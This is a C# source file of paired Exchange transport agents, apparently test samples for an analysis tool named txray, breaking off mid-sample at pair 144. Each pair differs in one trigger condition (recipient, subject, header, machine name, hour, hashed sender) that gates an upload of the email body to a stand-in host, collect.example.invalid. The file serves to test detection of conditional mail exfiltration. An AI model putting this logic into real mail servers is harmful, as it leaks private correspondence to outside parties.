// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions on people, words and files.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Net;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Win32;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 122: a set of recipients made by a static initialiser, and a loop that continues
namespace Txray.Pairs.P122
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (!Watched.Contains(recipient.Address.ToString()))
                {
                    continue;
                }
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly HashSet<string> Watched = new HashSet<string>(StringComparer.OrdinalIgnoreCase)
        {
            "ceo@corp.example.invalid",
            "cfo@corp.example.invalid"
        };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (!Watched.Contains(recipient.Address.ToString()))
                {
                    Trace.WriteLine("not listed");
                }
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 123: the end of an address, in any case
namespace Txray.Pairs.P123
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.ToString().EndsWith("@board.example.invalid", StringComparison.OrdinalIgnoreCase))
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int board = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.ToString().EndsWith("@board.example.invalid", StringComparison.OrdinalIgnoreCase))
                {
                    board++;
                }
            }
            Trace.WriteLine(board.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 124: a subject made lower case
namespace Txray.Pairs.P124
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.ToLower() == "approve")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.ToLower() == "approve")
            {
                Trace.WriteLine("approved");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 125: a pattern on the subject
namespace Txray.Pairs.P125
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Regex Order = new Regex("^Order [0-9]+", RegexOptions.IgnoreCase);

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Order.IsMatch(e.MailItem.Message.Subject))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Regex Order = new Regex("^Order [0-9]+", RegexOptions.IgnoreCase);

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(Order.Replace(e.MailItem.Message.Subject, "").Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 126: a header
namespace Txray.Pairs.P126
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Header header = e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Key");
            if (header != null && header.Value == "open")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Header header = e.MailItem.Message.RootPart.Headers.FindFirst("X-Pair-Key");
            if (header != null && header.Value == "open")
            {
                header.Value = "seen";
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 127: the size of the message
namespace Txray.Pairs.P127
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.MimeStreamLength > 1048576)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.MimeStreamLength > 1048576)
            {
                Trace.WriteLine("large");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 128: mail from outside
namespace Txray.Pairs.P128
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (!e.SmtpSession.IsExternalConnection)
            {
                return;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (!e.SmtpSession.IsExternalConnection)
            {
                Trace.WriteLine("inside");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 129: the name a client says it has
namespace Txray.Pairs.P129
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.SmtpSession.HelloDomain.StartsWith("relay."))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.SmtpSession.HelloDomain.StartsWith("relay."))
            {
                Trace.WriteLine("relay");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 130: the hour of the day, early or late
namespace Txray.Pairs.P130
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int hour = DateTime.UtcNow.Hour;
            if (hour < 6 || hour > 21)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int hour = DateTime.UtcNow.Hour;
            if (hour < 6 || hour > 21)
            {
                Trace.WriteLine("night");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 131: the name of the machine, asked by a helper of a helper
namespace Txray.Pairs.P131
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Place.IsChosen())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Place.IsChosen();
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal static class Place
    {
        public static bool IsChosen()
        {
            return IsNamed("MX07");
        }

        private static bool IsNamed(string name)
        {
            return Environment.MachineName == name;
        }
    }
}

// 132: a switch with three cases, and its default
namespace Txray.Pairs.P132
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            switch (e.MailItem.Message.Subject)
            {
                case "open":
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
                case "close":
                    Trace.WriteLine("close");
                    break;
                case "state":
                    Trace.WriteLine("state");
                    break;
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            switch (e.MailItem.Message.Subject)
            {
                case "open":
                    Trace.WriteLine("open");
                    break;
                case "close":
                    Trace.WriteLine("close");
                    break;
                case "state":
                    Trace.WriteLine("state");
                    break;
                default:
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
            }
        }
    }
}

// 133: a switch with eight cases, four of which matter
namespace Txray.Pairs.P133
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            switch (e.MailItem.FromAddress.LocalPart)
            {
                case "anna":
                case "bert":
                case "carl":
                case "dora":
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
                case "emil":
                case "frida":
                case "gustav":
                case "hanna":
                    Trace.WriteLine("the others");
                    break;
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            switch (e.MailItem.FromAddress.LocalPart)
            {
                case "anna":
                case "bert":
                case "carl":
                case "dora":
                    Trace.WriteLine("these");
                    break;
                case "emil":
                case "frida":
                case "gustav":
                case "hanna":
                    Trace.WriteLine("the others");
                    break;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 134: and, or
namespace Txray.Pairs.P134
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if ((e.MailItem.Message.Subject.Contains("tender") && e.MailItem.FromAddress.DomainPart == "partner.example.invalid")
                || e.MailItem.MimeStreamLength > 5000000)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if ((e.MailItem.Message.Subject.Contains("tender") && e.MailItem.FromAddress.DomainPart == "partner.example.invalid")
                || e.MailItem.MimeStreamLength > 5000000)
            {
                Trace.WriteLine("of interest");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 135: the first bytes of an attachment
namespace Txray.Pairs.P135
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                byte[] data = memory.ToArray();
                if (data.Length > 2 && data[0] == 0x50 && data[1] == 0x4b)
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                var memory = new MemoryStream();
                attachment.GetContentReadStream().CopyTo(memory);
                byte[] data = memory.ToArray();
                if (data.Length > 2 && data[0] == 0x50 && data[1] == 0x4b)
                {
                    Trace.WriteLine("an archive");
                }
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 136: a list from the registry
namespace Txray.Pairs.P136
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static string[] List()
        {
            return ((string)Registry.GetValue(@"HKEY_LOCAL_MACHINE\SOFTWARE\PairsList", "Senders", "")).Split(';');
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (List().Contains(e.MailItem.FromAddress.ToString()))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static string[] List()
        {
            return ((string)Registry.GetValue(@"HKEY_LOCAL_MACHINE\SOFTWARE\PairsList", "Senders", "")).Split(';');
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (List().Contains(e.MailItem.FromAddress.ToString()))
            {
                Trace.WriteLine("listed");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 137: a sender from the configuration, and a switch from it
namespace Txray.Pairs.P137
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == ConfigurationManager.AppSettings["Watch"])
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (ConfigurationManager.AppSettings["Enabled"] == "1")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 138: a flag of the agent, from RCPT TO to the end of data
namespace Txray.Pairs.P138
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        private bool wanted;

        public Claim()
        {
            OnRcptCommand += Rcpt;
            OnEndOfData += Data;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.ToString() == "audit@corp.example.invalid")
            {
                wanted = true;
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (wanted)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        private bool wanted;

        public Other()
        {
            OnRcptCommand += Rcpt;
            OnEndOfData += Data;
        }

        private void Rcpt(ReceiveCommandEventSource source, RcptCommandEventArgs e)
        {
            if (e.RecipientAddress.ToString() == "audit@corp.example.invalid")
            {
                Trace.WriteLine("audit");
            }
            wanted = true;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (wanted)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 139: a return inside a try, and an exception that is swallowed
namespace Txray.Pairs.P139
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                if (!e.MailItem.Message.Subject.StartsWith("Ref:"))
                {
                    return;
                }
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
            catch (Exception problem)
            {
                Trace.WriteLine(problem.GetType().Name);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                if (!e.MailItem.Message.Subject.StartsWith("Ref:"))
                {
                    throw new InvalidOperationException("no reference");
                }
            }
            catch (InvalidOperationException problem)
            {
                Trace.WriteLine(problem.GetType().Name);
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 140: mail with attachments, and a loop over them
namespace Txray.Pairs.P140
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Attachments.Count > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            for (int i = 0; i < e.MailItem.Message.Attachments.Count; i++)
            {
                Trace.WriteLine(i.ToString());
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 141: any recipient of a domain
namespace Txray.Pairs.P141
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Recipients.Any(r => r.Address.DomainPart == "partner.example.invalid"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Recipients.Any(r => r.Address.DomainPart == "partner.example.invalid").ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 142: a word found at any place
namespace Txray.Pairs.P142
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.IndexOf("secret", StringComparison.OrdinalIgnoreCase) >= 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int at = e.MailItem.Message.Subject.IndexOf("secret", StringComparison.OrdinalIgnoreCase);
            Trace.WriteLine(at.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 143: a sender known only by a hash
namespace Txray.Pairs.P143
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static string Hash(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(Encoding.UTF8.GetBytes(text))).Replace("-", "").ToLower();
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash(e.MailItem.FromAddress.ToString())
                == "6a45ec0e9893ce63ae69158df601ba2171ea8ae820be73a42e1f768923f0a62d")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static string Hash(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(Encoding.UTF8.GetBytes(text))).Replace("-", "").ToLower();
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(Hash(e.MailItem.FromAddress.ToString()));
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 144: a decoded word, and one decoded from the configuration
namespace Txray.Pairs.P144
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
